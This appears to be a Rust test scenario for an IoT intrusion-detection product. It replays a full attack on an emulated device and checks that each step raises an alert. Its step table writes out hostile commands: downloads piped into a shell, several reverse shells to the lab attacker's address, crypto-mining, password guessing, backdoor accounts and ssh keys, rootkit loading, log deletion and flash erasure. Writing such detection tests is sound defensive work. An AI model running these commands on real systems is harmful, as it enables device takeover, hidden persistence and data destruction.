//! A whole intrusion, step by step: guessed password, stock-taking, tools brought along, shells handed out, root, and then
//! everything an intruder does to a device to stay and not to be seen. Each step has to be detected before the next is taken.
//!
//! The lines are typed into shells, so that a rule sees the programs that really start; where an injected command is meant,
//! the line itself says `sh -c`. Applets are often called by way of `busybox`, as worms do it: a BusyBox shell built with
//! `FEATURE_SH_STANDALONE`, as Debian's is, does many of them within its own process, where there is no exec to be seen.
//! The root file system is read-only: what would destroy the device fails in the kernel, after
//! it was seen. Tools the image lacks are stand-ins, a program that does nothing under the tool's name: in `/tmp` where the
//! intruder downloads it, in [`TOOLS`] where a product would have it.

use std::collections::{BTreeMap, HashSet};
use std::fs;
use std::net::IpAddr;
use std::time::{Duration, Instant};

use crate::attack::{HttpServer, Session};
use crate::device::{class, Event};
use crate::error::{Error, Result};
use crate::image::{DEVICE_PASSWORD, DEVICE_USER};
use crate::lab::{Node, GUEST_V4};
use crate::progress;

use super::attack::MANY;
use super::{expect, World};

/// From the deed to the alert, on an emulated processor.
const DETECTION: Duration = Duration::from_secs(15);
const LOGIN: Duration = Duration::from_secs(30);

/// Directory of the stand-ins, first in root's `PATH`: not where droppers land, which would be an alert of its own.
const TOOLS: &str = "/var/lib/validation/intrusion";

/// Where the intruder's own web server offers programs, and where scripts.
const PROGRAMS_PORT: u16 = 8000;
const SCRIPTS_PORT: u16 = 8080;

/// Who does it, and how.
enum Deed {
    /// Wrong passwords over ssh, until the address is blocked.
    Guesses,
    /// The right password from an address that guessed.
    GuessedRight,
    /// Typed into the ssh session of the ordinary user. `{attacker}` is the intruder's address, `{web}` and `{scripts}` its
    /// web servers.
    User(&'static str),
    /// Typed into a root shell: the rights were escalated by a fault of the product that is not the subject here.
    Root(&'static str),
}

/// One step and the rule that has to fire.
struct Step {
    what: &'static str,
    deed: Deed,
    rule: &'static str,
}

const fn user(what: &'static str, line: &'static str, rule: &'static str) -> Step {
    Step { what, deed: Deed::User(line), rule }
}

const fn root(what: &'static str, line: &'static str, rule: &'static str) -> Step {
    Step { what, deed: Deed::Root(line), rule }
}

/// In the order they are taken.
const STEPS: &[Step] = &[
    Step { what: "guess passwords", deed: Deed::Guesses, rule: "5bfde283-2e1f-4f18-9966-000bc0fdc63a" },
    Step { what: "guess right", deed: Deed::GuessedRight, rule: "cd61c4b0-8cb4-437d-a5f8-73bab2531c74" },
    user("ask for a real shell", "busybox MIRAI", "c8e399c3-7090-4690-9c66-652cc2e6cc8f"),
    user(
        "take stock",
        "for c in 'uname -a' whoami id hostname free df lsmod mount 'cat /proc/cpuinfo' ps; do busybox $c; done >/dev/null",
        "43ecd73f-ed9c-4bec-a013-69f338b1dacc",
    ),
    user(
        "download into /tmp",
        "wget -q {web}/agent -O /tmp/agent",
        "1311818f-7737-4df4-a933-fdc5d1d3f16d",
    ),
    user("run the download", "busybox chmod +x /tmp/agent; /tmp/agent", "16e4259e-47f0-4946-97bf-7fa1ec907dee"),
    user(
        "fetch for every processor",
        "cd /tmp; wget -q {web}/bot.arm7; wget -q {web}/bot.mips; wget -q {web}/bot.x86",
        "185f9fcb-941c-48b1-8a43-1780927f10d2",
    ),
    user(
        "fetch for every processor in one command",
        "sh -c 'for a in arm7 mips; do wget -q {web}/b.$a; done; wget -q {web}/bot.arm7 {web}/bot.mips'",
        "41a462d0-9a38-43c8-ab4a-47e2963699a9",
    ),
    user(
        "pipe a download into a shell",
        "sh -c 'wget -q -O - {scripts}/i.sh | sh'",
        "a67d25cf-89df-4765-90b7-78f74c5b57bd",
    ),
    user(
        "fetch and run in one command",
        "sh -c 'wget -q {web}/k -O /tmp/k; chmod 777 /tmp/k; /tmp/k'",
        "635cc0a4-83ce-40a5-90e6-cbcb7fb55a5a",
    ),
    user("run what Base64 hides", "sh -c 'echo aWQ= | base64 -d | sh'", "1fbaa7d3-c0ca-462b-b30c-9583f6338c9e"),
    user(
        "reverse shell through a named pipe",
        "sh -c 'rm -f /tmp/.p; mkfifo /tmp/.p; cat /tmp/.p | sh -i 2>&1 | nc -w 1 {attacker} 4444 >/tmp/.p'",
        "183f3124-37f4-491b-96e7-ca383a72a383",
    ),
    user(
        "reverse shell with netcat",
        "nc -w 1 {attacker} 4444 -e /bin/sh",
        "7e7ff2de-c78d-4a04-a249-8d3740fcbc9f",
    ),
    user(
        "reverse shell through /dev/tcp",
        "sh -c 'sh -i >& /dev/tcp/{attacker}/4444 0>&1'",
        "7213b7ab-77c9-4fc5-81c0-530000a0e2f0",
    ),
    user(
        "reverse shell with socat",
        "cp /tmp/agent /tmp/socat; /tmp/socat tcp:{attacker}:4444 exec:/bin/sh,pty",
        "d5d6ff3c-18ff-4a7a-bff7-c3ab317c367f",
    ),
    user(
        "reverse shell in Python",
        "cp /tmp/agent /tmp/python3; \
         /tmp/python3 -c 'import socket,os,pty;s=socket.create_connection((\"{attacker}\",4444));pty.spawn(\"sh\")'",
        "0028b43e-b79e-44e3-b9cb-e6117481de2d",
    ),
    user("outlive the session", "setsid /tmp/agent", "1a022461-f448-48ee-81b7-cf262cc4778d"),
    user("start a miner", "cp /tmp/agent /tmp/xmrig; /tmp/xmrig -B", "3413b468-6f15-4762-9365-1e59d2b8726b"),
    user(
        "mine under another name",
        "/tmp/agent --donate-level 1 --url stratum+tcp://{attacker}:3333",
        "10eb5c83-56fa-4366-a972-ef97caa25071",
    ),
    user(
        "mine at a public pool",
        "/tmp/agent -o pool.supportxmr.com:443",
        "3a47373e-72b7-4978-848a-243f503af9bd",
    ),
    user(
        "scan the network",
        "cp /tmp/agent /tmp/nmap; /tmp/nmap -p 22,23 10.77.0.0/24",
        "ac0e42fb-b10e-41b7-82d4-dae9244b5ad7",
    ),
    user(
        "guess other devices' passwords",
        "cp /tmp/agent /tmp/hydra; /tmp/hydra -l root -P list telnet://10.77.0.9",
        "02a379e5-7c51-4bbc-8b3e-cd695f9153a8",
    ),
    user(
        "tunnel out",
        "cp /tmp/agent /tmp/chisel; /tmp/chisel client {attacker}:443 R:socks",
        "4507c973-2e89-4d69-ad23-f075363ffeb9",
    ),
    user(
        "pose as a kernel thread",
        "cp /tmp/agent '/tmp/[kworker]'; PATH=/tmp:$PATH '[kworker]'",
        "844fa336-473e-48d5-8e09-d8cc938a4009",
    ),
    user(
        "hide by a blank in the name",
        "cp /tmp/agent '/tmp/sshd '; '/tmp/sshd '",
        "5930d549-9363-47ea-877b-a25a414b083f",
    ),
    user(
        "run a deleted program",
        "cp /tmp/agent /tmp/gone; exec 7</tmp/gone; rm /tmp/gone; /proc/self/fd/7; exec 7<&-",
        "1406c4e4-924c-497e-927e-8092451e520b",
    ),
    user("remove the shell's history", "busybox rm -f ~/.ash_history", "5ccb739d-5cc3-4ffa-ab09-a5c19b9a9b71"),
    root("read the password hashes", "busybox cat /etc/shadow >/dev/null", "3bc03189-36ab-4d21-abb9-5c0591bcbf05"),
    root(
        "leave a set-user-id shell",
        "cp /bin/busybox /var/tmp/.sh; busybox chmod 4755 /var/tmp/.sh; rm /var/tmp/.sh",
        "dd796e6e-c9dc-490a-884d-68a084fe4028",
    ),
    root(
        "add a second root",
        "sh -c 'echo toor::0:0::/root:/bin/sh >>/etc/passwd'",
        "fd491daa-8c51-453c-9530-97ecface3ddf",
    ),
    root(
        "change a password",
        "sh -c 'echo device:owned | chpasswd'",
        "26a69995-4264-4a88-90d2-d06058aa6b56",
    ),
    root(
        "add an ssh key",
        "sh -c 'echo ssh-ed25519 AAAAC3Nz intruder >>/root/.ssh/authorized_keys'",
        "a7eb8a77-f915-4728-9efc-6d731199160d",
    ),
    root(
        "preload a library into everything",
        "sh -c 'echo /tmp/libhide.so >/etc/ld.so.preload'",
        "8c797fb1-9211-47fb-86ce-a7b10cd20875",
    ),
    root(
        "come back by cron",
        "sh -c 'echo \"* * * * * wget -qO- {scripts}/i.sh\" >>/var/spool/cron/intruder'; rm -f /var/spool/cron/intruder",
        "d4a02f08-9345-4110-bb22-ed408ff51acf",
    ),
    root("load a rootkit", "busybox insmod /tmp/rootkit.ko", "9f1a85bf-fcdf-43ee-939d-dd6be3135e11"),
    root("make the root writable", "mount -o remount,rw /", "a7d2665d-b06b-4047-a824-1061d5432ca8"),
    root("change the boot loader's environment", "fw_setenv bootcmd run evil", "6c6df899-f234-49f6-b66c-a6265f8f9428"),
    root("erase flash", "flash_erase /dev/mtd9 0 0", "d2f3a43b-7ae6-4161-8b6d-2ff80a64330b"),
    root(
        "overwrite storage",
        "busybox dd if=/dev/zero of=/dev/mmcblk9 count=0; rm -f /dev/mmcblk9",
        "0fbac9fb-5a34-4fa5-b720-c7efb1727a97",
    ),
    root("stop the watchdog", "busybox killall watchdogd", "dd99399f-093c-4cde-b356-e371a0396e5d"),
    root("read physical memory", "busybox dd if=/dev/mem of=/dev/null bs=1 count=0", "ba5cafd5-350d-4c72-973f-0198ff5a5e5b"),
    root(
        "open a telnet back door",
        "ln -s /bin/busybox /run/telnetd; /run/telnetd -l /bin/sh -b 127.0.0.1 -p 2323; killall telnetd; rm /run/telnetd",
        "becfa87e-0e9f-4c16-84e8-44f7d205a2e4",
    ),
    // Real ones would blind the agent's own source, which a scenario of its own looks at.
    root("switch audit off", "auditctl -e 0", "78b08461-08a8-42ba-943b-70c3441667de"),
    root("switch access control off", "setenforce 0", "b0a075c1-eccc-4dca-bfde-40341118e380"),
    root(
        "open the firewall",
        "nft add table inet intruder; nft delete table inet intruder",
        "f95b83b9-90b0-49e8-8657-3f305c817e0d",
    ),
    root("remove the record of logins", "busybox rm -f /var/log/wtmp", "d07de024-3a43-46cc-882c-46bfffa32c48"),
    root("stop the log daemon", "busybox killall klogd", "19ed9f79-9e22-401e-9ee0-8d6acdfc3b95"),
    root("disable the agent", "busybox chmod 0 /usr/bin/defender", "455d61fa-c44d-4537-8c16-2775e7bb9d24"),
];

/// What the image lacks, or has with an effect that is not wanted here.
const STAND_INS: &str = "fw_setenv flash_erase auditctl setenforce";

/// The intruder's hosts and what of them is on the device.
struct Intruder {
    /// Guesses; gets blocked.
    scout: Node,
    /// Serves programs, and logs in with what was learnt.
    host: Node,
    session: Session,
    /// Kept for as long as downloads are to work.
    _servers: [HttpServer; 2],
}

/// One row of the table.
struct Row {
    what: &'static str,
    title: String,
    severity: u64,
    took: Duration,
}

pub(super) fn intrusion(world: &mut World<'_>) -> Result<()> {
    let mut intruder = Intruder::prepare(world)?;
    let mut rows: Vec<Row> = Vec::new();
    let mut missed = Vec::new();
    for step in STEPS {
        let known = findings(world, step.rule)?;
        let start = Instant::now();
        intruder.take(world, &step.deed)?;
        match wait_for(world, step.rule, &known) {
            Ok(alert) => rows.push(Row {
                what: step.what,
                title: alert.at("/finding_info/title").as_str().unwrap_or_default().to_owned(),
                severity: alert.severity(),
                took: start.elapsed(),
            }),
            Err(error @ Error::TimedOut { .. }) => {
                missed.push(format!("{}: {error}", step.what));
                rows.push(Row {
                    what: step.what,
                    title: "NOT DETECTED".into(),
                    severity: 0,
                    took: start.elapsed(),
                });
            }
            Err(error) => return Err(error),
        }
    }
    drop(intruder);
    world.machine()?.run(&format!("rm -rf {TOOLS}"))?;
    print(&rows);
    let alerts: BTreeMap<&str, ()> = rows.iter().map(|row| (row.title.as_str(), ())).collect();
    expect(rows.len() >= 25 && alerts.len() >= 25, || format!("only {} different alerts", alerts.len()))?;
    expect(missed.is_empty(), || format!("{} of {} steps: {}", missed.len(), STEPS.len(), missed.join("; ")))
}

impl Intruder {
    fn prepare(world: &mut World<'_>) -> Result<Self> {
        let (scout, host) = (world.node()?, world.node()?);
        let machine = world.machine()?;
        machine.install_programs()?;
        machine.ok(&format!(
            "mkdir -p {TOOLS} && for t in {STAND_INS}; do cp {}/noop {TOOLS}/$t; done",
            crate::qemu::PROGRAMS
        ))?;
        let noop = &machine.setup().image.programs.noop;
        let program = fs::read(noop).map_err(Error::io(format!("cannot read {}", noop.display())))?;
        let servers = [host.serve(PROGRAMS_PORT, program)?, host.serve(SCRIPTS_PORT, "true\n")?];
        let mut session = host.session(GUEST_V4, DEVICE_USER, DEVICE_PASSWORD)?;
        session.complete("cd /tmp", LOGIN)?;
        Ok(Self { scout, host, session, _servers: servers })
    }

    fn take(&mut self, world: &mut World<'_>, deed: &Deed) -> Result<()> {
        match deed {
            Deed::Guesses => self.scout.guess_passwords(GUEST_V4, DEVICE_USER, MANY).map(drop),
            Deed::GuessedRight => {
                // The block keeps the scout out; an operator who takes it for a mistake lets it in again.
                world.machine()?.ok(&format!("defender unblock {}", self.scout.v4))?;
                // The alert blocks the address again, often before the client has its answer: its status says nothing.
                self.scout.ssh(GUEST_V4, DEVICE_USER, DEVICE_PASSWORD, 1, "true").map(drop)
            }
            Deed::User(line) => self.session.type_line(&fill(line, self.host.v4)),
            Deed::Root(line) => {
                let line = format!("PATH={TOOLS}:$PATH\n{}\n", fill(line, self.host.v4));
                world.machine()?.type_as_root(&line).map(drop)
            }
        }
    }
}

fn fill(line: &str, attacker: IpAddr) -> String {
    line.replace("{web}", &format!("http://{attacker}:{PROGRAMS_PORT}"))
        .replace("{scripts}", &format!("http://{attacker}:{SCRIPTS_PORT}"))
        .replace("{attacker}", &attacker.to_string())
}

/// Identities of the findings of a rule so far: an earlier scenario may have made it fire.
fn findings(world: &mut World<'_>, rule: &str) -> Result<HashSet<String>> {
    Ok(of_rule(world, rule)?.iter().map(Event::identity).collect())
}

fn of_rule(world: &mut World<'_>, rule: &str) -> Result<Vec<Event>> {
    let mut events = world.machine()?.events(rule)?;
    events.retain(|e| e.class() == class::FINDING && e.at("/finding_info/analytic/uid") == rule);
    Ok(events)
}

fn wait_for(world: &mut World<'_>, rule: &str, known: &HashSet<String>) -> Result<Event> {
    let start = Instant::now();
    loop {
        let new = of_rule(world, rule)?.into_iter().find(|e| !known.contains(&e.identity()));
        match new {
            Some(alert) => return Ok(alert),
            None if start.elapsed() > DETECTION => {
                return Err(Error::TimedOut {
                    what: format!("an alert of rule {rule}"),
                    after: DETECTION,
                    seen: String::new(),
                });
            }
            None => std::thread::sleep(Duration::from_millis(50)),
        }
    }
}

fn print(rows: &[Row]) {
    progress::say(format_args!(
        "     {:>2}  {:<42} {:<62} {:>8} {:>6}",
        "", "step", "alert", "severity", "ms"
    ));
    for (number, row) in rows.iter().enumerate() {
        progress::say(format_args!(
            "     {:>2}  {:<42} {:<62} {:>8} {:>6}",
            number + 1,
            row.what,
            row.title,
            row.severity,
            row.took.as_millis()
        ));
    }
    progress::say("     ms: from the step to the alert read back from the event file, on an emulated processor, by polling");
}
